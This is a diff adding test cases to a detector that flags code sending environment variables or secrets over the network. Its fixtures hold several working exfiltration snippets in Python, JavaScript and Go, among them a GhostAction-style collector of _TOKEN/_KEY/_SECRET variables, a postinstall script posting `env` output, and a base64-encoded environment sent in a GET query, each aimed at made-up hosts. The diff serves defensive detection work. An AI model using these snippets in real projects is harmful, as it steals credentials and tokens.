@@ -483,6 +483,68 @@ describe('suspicious-network-endpoint: the whole environment sent, whatever the 
     expect(sent('src/events.js', ['({ API_URL } = process.env);', "await fetch(API_URL, { method: 'POST', body: JSON.stringify(event) });"])).toEqual([]);
   });
 
+  it('reports variables picked from the environment by a secret\'s word and sent out, anywhere in the file', () => {
+    const picked = 'Environment variables named like secrets are collected and sent over the network';
+    // The GhostAction collector as a script a workflow runs: a function apart from the upload.
+    expect(
+      sent('.github/stats.py', [
+        'ENDPOINT = "https://api.repo-metrics.dev/v2/ingest"',
+        'def collect():',
+        '    info = {}',
+        '    for key, value in os.environ.items():',
+        '        if key.endswith(("_TOKEN", "_KEY", "_SECRET")):',
+        '            info[key] = value',
+        '    return info',
+        'def upload(payload):',
+        '    body = json.dumps(payload).encode()',
+        '    req = urllib.request.Request(ENDPOINT, data=body, method="POST")',
+        '    urllib.request.urlopen(req, timeout=10)',
+      ]),
+    ).toEqual([['high', picked, 14]]);
+    expect(sent('scripts/metrics.py', ['names = [n for n in os.environ if "TOKEN" in n]', 'payload = {}', 'for n in names:', '    payload[n] = os.getenv(n)', 'a = 1', 'b = 2', 'requests.post("https://stats.ci-insights.io/c", json=payload)'])).toEqual([['high', picked, 11]]);
+    expect(sent('scripts/telemetry.js', ['const data = {};', 'for (const k of Object.keys(process.env)) {', '  if (/TOKEN|SECRET|KEY/.test(k)) data[k] = process.env[k];', '}', 'a();', 'b();', "axios.post('https://telemetry.buildstats.dev/v1', data);"])).toEqual([['high', picked, 12]]);
+    expect(sent('tools/stats/main.go', ['\tvar b bytes.Buffer', '\tfor _, kv := range os.Environ() {', '\t\tif strings.Contains(kv, "TOKEN") {', '\t\t\tb.WriteString(kv)', '\t\t}', '\t}', '\thttp.Post("https://ci-metrics.dev/in", "text/plain", &b)'])).toEqual([['high', picked, 12]]);
+  });
+
+  it('is quiet on a secret\'s word test that blanks, drops or only names what it picks, or a whole name', () => {
+    // A log scrubber, a sandbox that unsets the job's secrets, a warning that names them.
+    expect(sent('app/errors.py', ['def env_snapshot():', '    out = {}', '    for key, value in os.environ.items():', '        if "TOKEN" in key or "SECRET" in key:', '            value = "***"', '        out[key] = value', '    return out', 'def report(exc):', '    requests.post("https://sentry.acme.dev/api/1/store/", json={"env": env_snapshot()})'])).toEqual([]);
+    expect(sent('scripts/run_checker.py', ['for name in list(os.environ):', '    if name.endswith(("_TOKEN", "_KEY")):', '        del os.environ[name]', 'a = 1', 'b = 2', 'script = requests.get("https://raw.githubusercontent.com/acme/tools/v1/check.py").text'])).toEqual([]);
+    expect(sent('cli/main.py', ['if any("TOKEN" in k for k in os.environ):', '    print("warning: tokens in the environment are not used")', 'requests.post("https://telemetry.acme-cli.dev/v1/ping", json={"version": "1.2.0"})'])).toEqual([]);
+    // Whole names are variables read one by one: a required-settings check before an API call.
+    expect(sent('deploy/release.py', ['missing = [k for k in ("API_TOKEN", "RELEASE_ID") if k not in os.environ]', 'if missing:', '    sys.exit("missing")', 'requests.post("https://api.acme.dev/releases", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]}, json={"id": 1})'])).toEqual([]);
+  });
+
+  it('is quiet on the environment walked for an ordinary prefix, masked, or by name only (the whole-environment reading too)', () => {
+    expect(sent('src/config.js', ['const config = {};', 'for (const [k, v] of Object.entries(process.env)) {', "  if (k.startsWith('APP_')) config[k.slice(4).toLowerCase()] = v;", '}', "axios.post('https://registry.acme.dev/services', { name: config.name });"])).toEqual([]);
+    expect(sent('src/debug.js', ["const env = Object.fromEntries(Object.entries(process.env).map(([k, v]) => [k, /TOKEN|SECRET/.test(k) ? '[REDACTED]' : v]));", "axios.post('https://support.acme.dev/reports', { env });"])).toEqual([]);
+    expect(sent('cli/check.py', ['if any(k.startswith("CI") for k in os.environ):', '    ci = True', 'requests.post("https://telemetry.acme-cli.dev/v1/ping", json={"ci": ci})'])).toEqual([]);
+    // A prefix that holds a service's credentials picks them: still the whole environment's reading.
+    expect(sent('src/aws.py', ['creds = {k: v for k, v in os.environ.items() if k.startswith("AWS_")}', 'requests.post("https://api.acme-cloud.dev/import", json=creds)'])).toEqual([['high', 'The whole environment is sent over the network', 11]]);
+  });
+
+  it('follows a name that holds the whole environment to a send further on in the file', () => {
+    const whole = 'The whole environment is sent over the network';
+    expect(sent('scripts/telemetry.js', ['const snapshot = { ...process.env };', 'a();', 'b();', 'c();', 'd();', 'e();', "fetch('https://ci-report.dev/r', { method: 'POST', body: JSON.stringify(snapshot) });"])).toEqual([['high', whole, 11]]);
+    // Through an encoding, into a GET's query.
+    expect(sent('.github/report.py', ['blob = ";".join(f"{k}={os.environ[k]}" for k in sorted(os.environ))', 'enc = base64.b64encode(blob.encode()).decode()', 'a = 1', 'b = 2', 'c = 3', 'd = 4', 'urllib.request.urlopen("https://cdn-stats.dev/p.gif?d=" + enc)'])).toEqual([['high', whole, 11]]);
+  });
+
+  it('is quiet when the name that holds the environment is only read entry by entry, or handed to a child process', () => {
+    expect(sent('src/register.js', ['const config = { ...process.env };', 'a();', 'b();', 'c();', 'd();', 'e();', "axios.post('https://registry.acme.dev/services', { version: config.APP_VERSION, port: config['PORT'] });"])).toEqual([]);
+    expect(sent('src/hooks.py', ['settings = dict(os.environ)', 'a = 1', 'b = 2', 'c = 3', 'd = 4', 'e = 5', 'requests.post(settings.get("HOOK_URL"), json=payload)'])).toEqual([]);
+    expect(sent('src/run.py', ['child_env = dict(os.environ)', 'child_env["CI"] = "1"', 'subprocess.run(cmd, env=child_env, check=True)', 'a = 1', 'b = 2', 'c = 3', 'requests.post(RESULTS_URL, json={"code": 0})'])).toEqual([]);
+  });
+
+  it('reads the environment listed by a child process (`env`, `printenv`) as taken whole; `env` running a command is not', () => {
+    const whole = 'The whole environment is sent over the network';
+    expect(sent('scripts/postinstall.js', ["const out = execSync('env').toString();", "const req = https.request({ hostname: 'ci-report.dev', path: '/r', method: 'POST' });", 'req.write(out);'])).toEqual([['high', whole, 11]]);
+    expect(sent('tools/report.py', ['out = subprocess.check_output(["printenv"], text=True)', 'requests.post("https://ci-report.dev/r", data=out)'])).toEqual([['high', whole, 11]]);
+    expect(sent('tools/report/main.go', ['\tout, _ := exec.Command("env").Output()', '\thttp.Post("https://ci-report.dev/r", "text/plain", bytes.NewReader(out))'])).toEqual([['high', whole, 11]]);
+    expect(sent('scripts/run.js', ["execSync('env', ['CI=1', 'npm', 'test']);", "spawnSync('env', ['CI=1', 'npm', 'test']);", "await fetch('https://ci.acme.dev/done', { method: 'POST', body: '{}' });"])).toEqual([]);
+    expect(sent('tools/run.py', ['subprocess.run(["env", "CI=1", "pytest"], check=True)', 'requests.post("https://ci.acme.dev/done", json={})'])).toEqual([]);
+  });
+
   it('reports a destructure whose rest element takes the whole environment', () => {
     expect(sent('src/events.ts', ['const { NODE_ENV, ...rest } = process.env;', "await fetch('https://collect.example.net/e', { method: 'POST', body: JSON.stringify(rest) });"])).toEqual([['high', 'The whole environment is sent over the network', 11]]);
   });
